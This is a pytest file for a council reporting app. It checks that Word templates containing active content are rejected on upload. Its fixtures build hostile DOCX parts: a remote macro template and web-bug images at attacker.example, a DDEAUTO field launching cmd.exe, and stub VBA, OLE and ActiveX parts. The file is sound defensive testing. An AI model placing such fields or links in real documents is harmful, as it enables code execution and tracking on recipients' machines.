"""A council's Word template carries only what a report needs (styles, headers,
footers, images in the package): a review's template with an attached macro template
from the web, a DDEAUTO field and an INCLUDEPICTURE web bug reached the public DOCX.
Each kind of active content is now refused at upload, by name, and one stored before
is not used (issue 27, item 3)."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from sharedservices.accounts.roles import Role
from sharedservices.reports.models import CouncilTemplate
from sharedservices.reports.services import council_template
from sharedservices.reports.template_safety import template_problems
from tests.known import LANCASTER
from tests.reports.test_templates_and_command import _template

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS = "http://schemas.microsoft.com/office/2006/relationships"


def _field(code: str) -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {code[:4]}</w:instrText></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{code[4:]} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _altered(*, rels: str = "", settings_rels: str = "", body: str = "", parts=None, types=""):
    """The plain template with relationships, field runs, parts or content types added."""
    source = zipfile.ZipFile(io.BytesIO(_template("Lancaster City Council")))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for item in source.infolist():
            data = source.read(item.filename).decode("utf-8", "replace")
            if item.filename == "word/_rels/document.xml.rels" and rels:
                data = data.replace("</Relationships>", rels + "</Relationships>")
            if item.filename == "word/document.xml" and body:
                data = data.replace("<w:body>", "<w:body><w:p>" + body + "</w:p>", 1)
            if item.filename == "[Content_Types].xml" and types:
                data = data.replace("</Types>", types + "</Types>")
            package.writestr(item, data)
        if settings_rels:
            package.writestr(
                "word/_rels/settings.xml.rels",
                f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                f'package/2006/relationships">{settings_rels}</Relationships>',
            )
        for name, data in (parts or {}).items():
            package.writestr(name, data)
    return out.getvalue()


ACTIVE = {
    "attached template": (
        _altered(
            settings_rels=f'<Relationship Id="rId9" Type="{R}/attachedTemplate"'
            ' Target="http://attacker.example/macro.dotm" TargetMode="External"/>'
        ),
        "an attached template from http://attacker.example/macro.dotm",
    ),
    "DDEAUTO field": (
        _altered(body=_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"')),
        "a field DDEAUTO",
    ),
    "INCLUDEPICTURE web bug": (
        _altered(body=_field('INCLUDEPICTURE "http://attacker.example/bug.png" \\d')),
        "a field INCLUDEPICTURE",
    ),
    "external image": (
        _altered(
            rels=f'<Relationship Id="rId99" Type="{R}/image"'
            ' Target="http://attacker.example/logo.png" TargetMode="External"/>'
        ),
        "a link to http://attacker.example/logo.png outside the document (image)",
    ),
    "macros": (
        _altered(
            rels=f'<Relationship Id="rId98" Type="{MS}/vbaProject" Target="vbaProject.bin"/>',
            parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"},
            types='<Override PartName="/word/vbaProject.bin"'
            ' ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        "macros (a VBA project)",
    ),
    "OLE object": (
        _altered(
            rels=f'<Relationship Id="rId97" Type="{R}/oleObject"'
            ' Target="embeddings/oleObject1.bin"/>',
            parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 ole"},
        ),
        "an OLE object",
    ),
    "ActiveX control": (
        _altered(
            rels=f'<Relationship Id="rId96" Type="{R}/control" Target="activeX/activeX1.xml"/>',
            parts={"word/activeX/activeX1.xml": "<ax:ocx/>"},
        ),
        "an ActiveX control",
    ),
}


@pytest.mark.parametrize("kind", sorted(ACTIVE))
def test_each_kind_of_active_content_is_named(kind):
    data, named = ACTIVE[kind]
    assert named in template_problems(data)


def test_a_plain_template_with_page_numbers_and_a_web_link_is_accepted():
    data = _altered(
        body=_field("PAGE \\* MERGEFORMAT") + _field("NUMPAGES"),
        rels=f'<Relationship Id="rId95" Type="{R}/hyperlink"'
        ' Target="https://www.lancaster.gov.uk/" TargetMode="External"/>',
    )
    assert template_problems(data) == []


@pytest.mark.django_db
@pytest.mark.parametrize("kind", sorted(ACTIVE))
def test_an_upload_with_active_content_is_refused_naming_it(client, make_user, kind):
    data, named = ACTIVE[kind]
    client.force_login(make_user(LANCASTER, Role.OFFICER))
    response = client.post(
        f"/reports/templates/{LANCASTER}/",
        {"file": SimpleUploadedFile("lancaster.docx", data)},
    )
    assert response.status_code == 200
    assert named in response.content.decode().replace("&quot;", '"').replace("&#x27;", "'")
    assert not CouncilTemplate.objects.filter(council_id=LANCASTER).exists()


@pytest.mark.django_db
def test_a_template_stored_before_the_check_is_not_used(make_user):
    data, _ = ACTIVE["DDEAUTO field"]
    CouncilTemplate.objects.create(
        council_id=LANCASTER, name="old", docx=data, uploaded_by=make_user(LANCASTER)
    )
    assert council_template(LANCASTER) is None
